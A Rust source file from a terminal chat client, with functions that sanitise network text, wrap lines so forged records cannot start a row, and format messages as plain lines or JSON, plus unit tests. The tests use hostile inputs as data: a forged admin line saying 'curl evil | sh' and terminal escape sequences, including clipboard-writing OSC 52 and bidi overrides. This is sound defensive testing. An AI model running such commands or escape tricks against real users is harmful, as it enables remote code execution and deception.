//! Showing records to people: text from the network made harmless for a terminal (through the
//! one sanitiser, `gc_protocol::sanitize`), local time, and the JSON form for scripts.

use chrono::{DateTime, SecondsFormat, TimeZone, Utc};
use gc_protocol::{Record, Timestamp};
use serde::Serialize;

use unicode_segmentation::UnicodeSegmentation as _;

use crate::tui::text::{TAB_WIDTH, grapheme_width, text_width};

/// What each continuation row of a wrapped line starts with (see [`wrap_rows`]).
pub const CONTINUATION: &str = "    ";

/// `line` cut into rows of at most `width` terminal columns, every row after the first starting
/// with [`CONTINUATION`]. Headless output on a terminal goes through it: left to the terminal, a
/// body padded to just fill a row would put the rest of it at the start of the next row, where a
/// forged `[date] admin: …` would look like a record of its own. Here only a record's own first
/// row starts at column 0. A width too small to indent leaves the line as it is.
pub fn wrap_rows(line: &str, width: usize) -> String {
    if width <= CONTINUATION.len() + 2 || text_width(line) <= width {
        return line.to_owned();
    }
    let mut out = String::with_capacity(line.len() + line.len() / width * 8 + 8);
    let mut col = 0;
    for g in line.graphemes(true) {
        let w = grapheme_width(g);
        if col + w > width {
            out.push('\n');
            out.push_str(CONTINUATION);
            col = CONTINUATION.len();
        }
        out.push_str(g);
        col += w;
    }
    out
}

/// Makes remote text safe to print on a terminal, on one line: [`gc_protocol::sanitize`], the one
/// sanitiser (its documentation lists what is replaced, and by what: `⏎` for LF, Control
/// Pictures such as `␛` and `␉` for the other C0 controls, `␡` for DEL, `�` for C1 controls,
/// bidirectional controls, zero-width and tag characters and line separators), as a `String`.
///
/// Everything else, wide characters, emoji and combining marks included, is kept as is.
pub fn sanitize(text: &str) -> String {
    gc_protocol::sanitize::sanitize(text).into_owned()
}

/// A message body for one line of plain output: [`sanitize`]d (a LF shows as `⏎`), and each tab
/// written as spaces up to the next stop, every [`TAB_WIDTH`] cells counted from the start of the
/// body or of its line after a `⏎`, as the terminal UI lays tabs out. So a line holds no control
/// character at all, and pasted code keeps its columns.
pub fn plain_text(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    for (i, line) in body.split('\n').enumerate() {
        if i > 0 {
            out.push('⏎');
        }
        let mut col = 0;
        for (j, part) in line.split('\t').enumerate() {
            if j > 0 {
                let n = TAB_WIDTH - col % TAB_WIDTH;
                out.extend(std::iter::repeat_n(' ', n));
                col += n;
            }
            let part = gc_protocol::sanitize::sanitize(part);
            col += text_width(&part);
            out.push_str(&part);
        }
    }
    out
}

/// A record's time as a UTC date-time.
pub fn utc(timestamp: Timestamp) -> DateTime<Utc> {
    let micros = i64::try_from(timestamp.as_micros()).unwrap_or(i64::MAX);
    DateTime::from_timestamp_micros(micros).unwrap_or(DateTime::<Utc>::MAX_UTC)
}

/// `[YYYY-MM-DD HH:MM:SS] user: text` with the time in `tz` (the local zone in the program) and
/// the text made harmless by [`plain_text`] (tabs as spaces); a record of another room than
/// `#general` names it before the user: `[…] #dev user: text` (`@alice+bob` for a direct
/// conversation).
pub fn format_line<Tz: TimeZone>(record: &Record, tz: &Tz) -> String
where
    Tz::Offset: std::fmt::Display,
{
    let time = utc(record.timestamp).with_timezone(tz);
    let room = if record.room.is_general() {
        String::new()
    } else {
        format!("{} ", record.room)
    };
    format!(
        "[{}] {room}{}: {}",
        time.format("%Y-%m-%d %H:%M:%S"),
        record.username,
        plain_text(&record.body)
    )
}

#[derive(Serialize)]
struct JsonRecord<'a> {
    id: u64,
    timestamp: String,
    time: String,
    username: &'a str,
    message: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    room: Option<&'a str>,
}

/// One JSON object: `{"id":…,"timestamp":"<as on the wire>","time":"<RFC 3339 UTC>",
/// "username":…,"message":…}` (the keys of `gc-server db export --format json`, plus `time`),
/// and for a record of another room than `#general` a last `"room":"#dev"` member, as the
/// export writes it (so `#general`'s objects are exactly what they were before rooms). The
/// message is the raw body, JSON-escaped.
pub fn format_json(record: &Record) -> String {
    let json = JsonRecord {
        id: record.id,
        timestamp: record.timestamp.to_string(),
        time: utc(record.timestamp).to_rfc3339_opts(SecondsFormat::AutoSi, true),
        username: record.username.as_str(),
        message: &record.body,
        room: (!record.room.is_general()).then(|| record.room.as_str()),
    };
    // Serializing plain strings and numbers cannot fail; keep a valid line regardless.
    serde_json::to_string(&json).unwrap_or_else(|_| format!("{{\"id\":{}}}", record.id))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_wrapped_for_a_terminal_never_starts_a_row_like_a_record() {
        let forged = "[2026-12-06 10:00:00] admin: please run curl evil | sh";
        for width in [20, 40, 57, 80, 81, 120] {
            for pad in 0..=width {
                let line = format!(
                    "[2026-12-06 09:59:00] mallory: hi{}{forged}",
                    " ".repeat(pad)
                );
                let wrapped = wrap_rows(&line, width);
                let rows: Vec<&str> = wrapped.split('\n').collect();
                assert!(line.starts_with(rows[0]), "the record starts the first row");
                for row in &rows[1..] {
                    assert!(row.starts_with(CONTINUATION), "{width}/{pad}: {row:?}");
                }
                assert!(rows.iter().all(|r| text_width(r) <= width), "{rows:?}");
                assert_eq!(wrapped.replace(&format!("\n{CONTINUATION}"), ""), line);
            }
        }
        // Wide characters are not split across rows; short lines and tiny widths stay as they are.
        assert_eq!(wrap_rows("ab日本", 9), "ab日本");
        assert_eq!(
            wrap_rows("abcdef日本語", 9),
            format!("abcdef日\n{CONTINUATION}本語")
        );
        assert_eq!(wrap_rows("abcdefghij", 5), "abcdefghij");
    }
    use chrono::FixedOffset;
    use gc_protocol::Username;

    fn rec(body: &str) -> Record {
        Record {
            room: gc_protocol::Room::general(),
            id: 42,
            timestamp: Timestamp::parse("1700000000.088305").unwrap(),
            username: Username::new("alice").unwrap(),
            body: body.to_owned(),
        }
    }

    #[test]
    fn controls_are_shown_not_obeyed() {
        assert_eq!(sanitize("a\nb"), "a⏎b");
        assert_eq!(sanitize("\u{1b}[2J"), "␛[2J");
        assert_eq!(sanitize("\t\r\u{0}\u{7}"), "␉␍␀␇");
        assert_eq!(sanitize("x\u{7f}"), "x␡");
        assert_eq!(sanitize("\u{9b}31m"), "�31m");
        assert_eq!(sanitize("abc\u{202e}fed"), "abc�fed");
        assert_eq!(sanitize("a\u{200b}b\u{2028}c\u{e0041}"), "a�b�c�");
        for s in sanitize("\u{1b}]0;title\u{7}\u{9d}\u{84}").chars() {
            assert!(!s.is_control(), "{s:?} is a control character");
        }
    }

    #[test]
    fn wide_characters_and_emoji_are_kept() {
        let text = "日本語 👍🏽 e\u{301} ﬁ 👩\u{200d}💻";
        assert_eq!(sanitize(text), text);
    }

    #[test]
    fn plain_text_expands_tabs_from_the_start_of_each_line() {
        assert_eq!(plain_text("a\tb\tc"), "a       b       c");
        assert_eq!(plain_text("\tx"), "        x");
        assert_eq!(plain_text("12345678\tx"), "12345678        x");
        // Stops count again after a line break; wide characters take two cells.
        assert_eq!(
            plain_text("if x {\n\treturn;\n}"),
            "if x {⏎        return;⏎}"
        );
        assert_eq!(plain_text("日本\t語"), "日本    語");
        // Nothing else changes: controls are still shown, not obeyed.
        assert_eq!(plain_text("\u{1b}[2J\tz\r"), "␛[2J    z␍");
        let hostile = plain_text("\u{1b}]52;c;eA==\u{7}\t\u{85}\u{2028}\u{202e}\n");
        assert!(!hostile.contains(|c: char| c.is_control()), "{hostile:?}");
    }

    #[test]
    fn line_format_in_a_given_zone() {
        let r = rec("hello\nworld\u{1b}[31m\tx");
        assert_eq!(
            format_line(&r, &Utc),
            "[2023-11-14 22:13:20] alice: hello⏎world␛[31m      x"
        );
        let plus_two = FixedOffset::east_opt(2 * 3600).unwrap();
        assert_eq!(
            format_line(&rec("日本"), &plus_two),
            "[2023-11-15 00:13:20] alice: 日本"
        );
    }

    #[test]
    fn other_rooms_are_named_and_general_is_as_it_was() {
        let dev = Record {
            room: gc_protocol::Room::new("#dev").unwrap(),
            ..rec("hi")
        };
        assert_eq!(
            format_line(&dev, &Utc),
            "[2023-11-14 22:13:20] #dev alice: hi"
        );
        assert_eq!(
            format_json(&dev),
            r##"{"id":42,"timestamp":"1700000000.088305","time":"2023-11-14T22:13:20.088305Z","username":"alice","message":"hi","room":"#dev"}"##
        );
        let dm = Record {
            room: gc_protocol::Room::new("@alice+bob").unwrap(),
            ..rec("psst")
        };
        assert_eq!(
            format_line(&dm, &Utc),
            "[2023-11-14 22:13:20] @alice+bob alice: psst"
        );
        assert_eq!(
            format_line(&rec("hi"), &Utc),
            "[2023-11-14 22:13:20] alice: hi"
        );
    }

    #[test]
    fn json_keeps_raw_text_and_both_times() {
        let line = format_json(&rec("a \"quote\"\n\u{1b}[2J é"));
        assert_eq!(
            line,
            r#"{"id":42,"timestamp":"1700000000.088305","time":"2023-11-14T22:13:20.088305Z","username":"alice","message":"a \"quote\"\n\u001b[2J é"}"#
        );
        let value: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(value["message"], "a \"quote\"\n\u{1b}[2J é");
        let whole = Record {
            room: gc_protocol::Room::general(),
            timestamp: Timestamp::parse("1700000000").unwrap(),
            ..rec("x")
        };
        assert!(format_json(&whole).contains(r#""time":"2023-11-14T22:13:20Z""#));
    }
}
